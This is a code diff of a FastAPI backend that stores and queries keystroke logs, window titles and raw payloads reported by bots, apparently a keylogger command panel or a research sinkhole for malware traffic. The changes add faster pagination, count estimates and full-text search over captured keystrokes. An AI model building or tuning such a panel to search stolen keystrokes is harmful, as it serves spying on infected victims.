@@ -7,18 +7,35 @@ and other activity logs from malware traffic.
 
 from typing import List, Optional
 
-from fastapi import APIRouter, Depends, Query
-from sqlalchemy import desc, select
+from fastapi import APIRouter, Depends, HTTPException, Query
+from fastapi.responses import ORJSONResponse
+from sqlalchemy import delete as sql_delete
+from sqlalchemy import desc, func, lambda_stmt, or_, select, tuple_
 from sqlalchemy.ext.asyncio import AsyncSession
 
-from app.core.database import get_db
+from app.api.pagination import decode_cursor, set_next_cursor
+from app.core.database import approx_count, get_read_db, get_write_db
 from app.core.logging import get_logger
-from app.models.log import Log, LogRead
+from app.models.log import Log, LogRead, log_search_document
 
 logger = get_logger(__name__)
 
 router = APIRouter()
 
+# Columns serialized by LogRead; list endpoints select these as plain rows
+# instead of hydrating ORM objects
+LOG_READ_COLUMNS = tuple(Log.__table__.c[name] for name in LogRead.model_fields)
+
+# Columns returned by /logs/search
+LOG_SEARCH_COLUMNS = (
+    Log.id,
+    Log.bot_id,
+    Log.log_type,
+    Log.window_title,
+    Log.keystroke_data,
+    Log.received_at,
+)
+
 
 @router.get("/logs", response_model=List[LogRead])
 async def list_logs(
@@ -27,117 +44,158 @@ async def list_logs(
     window_title: Optional[str] = Query(None, description="Search window title"),
     limit: int = Query(100, ge=1, le=1000, description="Maximum number of results"),
     offset: int = Query(0, ge=0, description="Offset for pagination"),
-    db: AsyncSession = Depends(get_db),
+    cursor: Optional[str] = Query(None, description="Keyset cursor from X-Next-Cursor"),
+    db: AsyncSession = Depends(get_read_db),
 ):
     """
     List captured logs with optional filtering.
     
     Returns paginated logs ordered by received_at (most recent first).
+    
+    Full pages carry an X-Next-Cursor header; pass it back as ``cursor``
+    to fetch the next page without the cost of a deep OFFSET.
     """
-    query = select(Log).order_by(desc(Log.received_at))
+    # lambda_stmt caches the constructed statement per shape; the closure
+    # values become bound parameters
+    query = lambda_stmt(
+        lambda: select(*LOG_READ_COLUMNS).order_by(desc(Log.received_at), desc(Log.id))
+    )
     
     # Apply filters
     if bot_id is not None:
-        query = query.where(Log.bot_id == bot_id)
+        query += lambda s: s.where(Log.bot_id == bot_id)
     if log_type:
-        query = query.where(Log.log_type == log_type)
+        query += lambda s: s.where(Log.log_type == log_type)
     if window_title:
-        query = query.where(Log.window_title.ilike(f"%{window_title}%"))
+        pattern = f"%{window_title}%"
+        query += lambda s: s.where(Log.window_title.ilike(pattern))
     
     # Apply pagination
-    query = query.limit(limit).offset(offset)
+    if cursor:
+        received_at, last_id = decode_cursor(cursor)
+        query += lambda s: s.where(tuple_(Log.received_at, Log.id) < tuple_(received_at, last_id))
+    else:
+        query += lambda s: s.offset(offset)
+    query += lambda s: s.limit(limit)
     
     result = await db.execute(query)
-    logs = result.scalars().all()
+    logs = result.mappings().all()
+    
+    # Rows already have exactly the LogRead columns, so they are encoded
+    # directly instead of being validated against response_model first
+    response = ORJSONResponse([dict(row) for row in logs])
+    set_next_cursor(response, logs, limit, "received_at")
     
     logger.info(f"Retrieved {len(logs)} logs (bot_id={bot_id}, type={log_type})")
     
-    return logs
+    return response
 
 
-@router.get("/logs/{log_id}", response_model=LogRead)
-async def get_log(
-    log_id: int,
-    db: AsyncSession = Depends(get_db),
+@router.get("/logs/count")
+async def count_logs(
+    bot_id: Optional[int] = Query(None),
+    log_type: Optional[str] = Query(None),
+    exact: bool = Query(False, description="Run an exact COUNT instead of estimating"),
+    db: AsyncSession = Depends(get_read_db),
 ):
     """
-    Get detailed information about a specific log entry.
-    """
-    result = await db.execute(select(Log).where(Log.id == log_id))
-    log = result.scalar_one_or_none()
-    
-    if not log:
-        from fastapi import HTTPException
-        raise HTTPException(status_code=404, detail=f"Log {log_id} not found")
+    Get total count of logs, optionally filtered.
     
-    return log
+    By default the count is a cheap estimate from database statistics;
+    pass exact=true for a precise (full scan) count.
+    """
+    if exact:
+        query = lambda_stmt(lambda: select(func.count(Log.id)))
+        if bot_id is not None:
+            query += lambda s: s.where(Log.bot_id == bot_id)
+        if log_type:
+            query += lambda s: s.where(Log.log_type == log_type)
+        count = await db.scalar(query)
+    else:
+        criteria = []
+        if bot_id is not None:
+            criteria.append(Log.bot_id == bot_id)
+        if log_type:
+            criteria.append(Log.log_type == log_type)
+        count = await approx_count(db, Log, *criteria)
+    
+    return {"count": count, "bot_id": bot_id, "log_type": log_type, "exact": exact}
 
 
 @router.get("/logs/search")
 async def search_logs(
     keyword: str = Query(..., min_length=3, description="Search keyword in keystrokes"),
     limit: int = Query(50, ge=1, le=500),
-    db: AsyncSession = Depends(get_db),
+    db: AsyncSession = Depends(get_read_db),
 ):
     """
     Full-text search in keystroke data.
     
-    Searches for keywords in captured keystrokes and window titles.
+    Searches for keywords in captured keystrokes and window titles. On
+    PostgreSQL this is a GIN-indexed token search; SQLite falls back to
+    substring matching.
+    
+    Results carry the matched text but not raw_data, which can hold
+    large base64 payloads; fetch /logs/{log_id} for the full entry.
     """
-    query = select(Log).where(
-        (Log.keystroke_data.ilike(f"%{keyword}%")) |
-        (Log.window_title.ilike(f"%{keyword}%"))
-    ).order_by(desc(Log.received_at)).limit(limit)
+    if db.get_bind().dialect.name == "postgresql":
+        condition = log_search_document().op("@@")(
+            func.plainto_tsquery("simple", keyword)
+        )
+    else:
+        # The short window title is tested first so the OR can
+        # short-circuit before scanning the much longer keystroke text
+        pattern = f"%{keyword}%"
+        condition = or_(
+            Log.window_title.ilike(pattern),
+            Log.keystroke_data.ilike(pattern),
+        )
+    
+    query = select(*LOG_SEARCH_COLUMNS).where(condition).order_by(
+        desc(Log.received_at)
+    ).limit(limit)
     
     result = await db.execute(query)
-    logs = result.scalars().all()
+    logs = result.mappings().all()
     
     logger.info(f"Search for '{keyword}' returned {len(logs)} results")
     
     return logs
 
 
-@router.get("/logs/count")
-async def count_logs(
-    bot_id: Optional[int] = Query(None),
-    log_type: Optional[str] = Query(None),
-    db: AsyncSession = Depends(get_db),
+@router.get("/logs/{log_id}", response_model=LogRead)
+async def get_log(
+    log_id: int,
+    db: AsyncSession = Depends(get_read_db),
 ):
     """
-    Get total count of logs, optionally filtered.
+    Get detailed information about a specific log entry.
     """
-    from sqlalchemy import func
-    
-    query = select(func.count(Log.id))
-    
-    if bot_id is not None:
-        query = query.where(Log.bot_id == bot_id)
-    if log_type:
-        query = query.where(Log.log_type == log_type)
+    result = await db.execute(select(Log).where(Log.id == log_id))
+    log = result.scalar_one_or_none()
     
-    result = await db.execute(query)
-    count = result.scalar()
+    if not log:
+        raise HTTPException(status_code=404, detail=f"Log {log_id} not found")
     
-    return {"count": count, "bot_id": bot_id, "log_type": log_type}
+    # Database rows skip the response_model validation pass
+    return ORJSONResponse(LogRead.from_orm_trusted(log).model_dump())
 
 
 @router.delete("/logs/{log_id}")
 async def delete_log(
     log_id: int,
-    db: AsyncSession = Depends(get_db),
+    db: AsyncSession = Depends(get_write_db),
 ):
     """
     Delete a specific log entry.
     """
-    result = await db.execute(select(Log).where(Log.id == log_id))
-    log = result.scalar_one_or_none()
-    
-    if not log:
-        from fastapi import HTTPException
+    # RETURNING doubles as the existence check, in one round trip
+    result = await db.execute(
+        sql_delete(Log).where(Log.id == log_id).returning(Log.id)
+    )
+    if result.scalar_one_or_none() is None:
         raise HTTPException(status_code=404, detail=f"Log {log_id} not found")
     
-    from sqlalchemy import delete as sql_delete
-    await db.execute(sql_delete(Log).where(Log.id == log_id))
     await db.commit()
     
     logger.info(f"Deleted log {log_id}")